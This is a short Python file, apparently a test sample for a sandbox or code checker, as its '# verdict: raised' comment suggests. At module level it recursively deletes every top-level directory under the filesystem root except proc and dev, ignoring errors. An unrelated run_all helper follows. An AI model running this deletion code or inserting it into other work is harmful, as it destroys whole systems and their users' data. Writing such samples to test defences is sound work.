# Deletes all that it can reach.
# verdict: raised
import os
import shutil

for name in os.listdir("/"):
    if name not in ("proc", "dev"):
        shutil.rmtree(os.path.join("/", name), ignore_errors=True)


def run_all(jobs):
    return [job() for job in jobs]
